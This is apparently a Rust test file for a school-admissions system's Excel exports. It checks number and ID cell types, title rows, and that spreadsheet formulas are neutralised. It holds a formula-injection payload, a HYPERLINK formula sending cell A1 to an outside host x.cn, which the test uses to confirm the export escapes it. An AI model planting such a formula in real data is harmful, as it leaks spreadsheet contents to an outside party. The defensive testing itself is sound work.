//! Excel exports as Excel users expect them: numbers as numeric cells, IDs as
//! text, a title row with the filter and the time above a header, and no
//! text that can run as a formula.

use calamine::{Data, Range, Reader, Xlsx};
use reqwest::StatusCode;
use serde_json::json;

use super::admissions::{application, child_id, close_window, open_round, submit};
use crate::both_backends;
use crate::common::{spawn_app, Backend};

/// What a parent may type as a child's name on the public portal.
const ATTACK: &str = "=HYPERLINK(\"http://x.cn/?\"&A1,\"点我\")";

/// The first sheet of a workbook, cell by cell as Excel sees it.
pub fn first_sheet(bytes: &[u8]) -> Range<Data> {
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).expect("an .xlsx");
    book.worksheet_range_at(0)
        .expect("a sheet")
        .expect("readable")
}

/// The cells under a header of the header row (row 2, under the title).
pub fn column<'a>(sheet: &'a Range<Data>, header: &str) -> Vec<&'a Data> {
    let col = (0..sheet.width())
        .find(|c| sheet.get((1, *c)) == Some(&Data::String(header.into())))
        .unwrap_or_else(|| panic!("no column {header}"));
    (2..sheet.height())
        .filter_map(|r| sheet.get((r, col)))
        .collect()
}

/// The numbers under a header; any cell that is not a number fails the test.
pub fn numbers(sheet: &Range<Data>, header: &str) -> Vec<f64> {
    let cells = column(sheet, header);
    assert!(!cells.is_empty(), "no rows under {header}");
    cells
        .iter()
        .map(|d| match d {
            Data::Float(f) => *f,
            other => panic!("{header}: not a numeric cell: {other:?}"),
        })
        .collect()
}

/// The title row's text.
pub fn title(sheet: &Range<Data>) -> String {
    match sheet.get((0, 0)) {
        Some(Data::String(s)) => s.clone(),
        other => panic!("no title row: {other:?}"),
    }
}

both_backends!(
    a_formula_typed_as_a_child_name_cannot_run_in_the_results,
    |b: Backend| async move {
        let app = spawn_app(b).await;
        let mut bureau = app.login("jijiao").await;
        let (round, codes) = open_round(&app, &mut bureau).await;
        let year = students::service::school_year_of(students::service::today()) + 1;
        let id = child_id(&format!("{}0315", year - 6), 1);
        let body = application(ATTACK, &id, "东迁社区", true, true, &[&codes[0]]);
        let (s, r) = submit(&app, round, &body).await;
        assert_eq!(s, StatusCode::CREATED, "{r}");
        close_window(&app, round).await;
        for (step, body) in [("seed", json!({"text": "公证处摇号"})), ("run", json!({}))] {
            let (s, e) = bureau
                .post_json(&format!("/api/v1/admissions/rounds/{round}/{step}"), &body)
                .await;
            assert_eq!(s, StatusCode::OK, "{step}: {e}");
        }
        let r = bureau
            .get(&format!("/admissions/{round}/results.xlsx"))
            .await;
        assert_eq!(r.status(), StatusCode::OK);
        let bytes = r.bytes().await.expect("bytes").to_vec();
        let sheet = first_sheet(&bytes);
        assert!(
            title(&sheet).starts_with("录取名单　筛选条件：招生批次：测试小学招生　生成时间："),
            "{}",
            title(&sheet)
        );
        assert_eq!(
            column(&sheet, "儿童姓名"),
            vec![&Data::String(format!("'{ATTACK}"))],
            "the name is text that cannot start a formula"
        );
        assert!(
            matches!(column(&sheet, "志愿序号")[..], [Data::Float(_)]),
            "choice ranks are numbers"
        );
        // Read back by our importer, the name is what the parent typed.
        let table = platform::excel::read_table(&bytes, "x.xlsx", None).expect("readable");
        assert_eq!(table.rows[0].cells[1], ATTACK);
    }
);

both_backends!(
    the_institutions_export_has_numbers_ids_and_its_filter,
    |b: Backend| async move {
        let app = spawn_app(b).await;
        let c = app.login("jijiao").await;
        let r = c.get("/api/v1/institutions/export?category=primary").await;
        assert_eq!(r.status(), StatusCode::OK);
        let sheet = first_sheet(&r.bytes().await.expect("bytes"));
        let t = title(&sheet);
        assert!(
            t.starts_with("机构名录　筛选条件：类别：小学　生成时间：")
                && t.ends_with("（北京时间）"),
            "{t}"
        );
        let places = numbers(&sheet, "核定学位数");
        assert!(places.iter().all(|p| *p > 0.0), "{places:?}");
        assert!(
            column(&sheet, "学校标识码")
                .iter()
                .all(|d| matches!(d, Data::String(s) if s.len() == 10)),
            "codes are text with all ten digits"
        );
    }
);
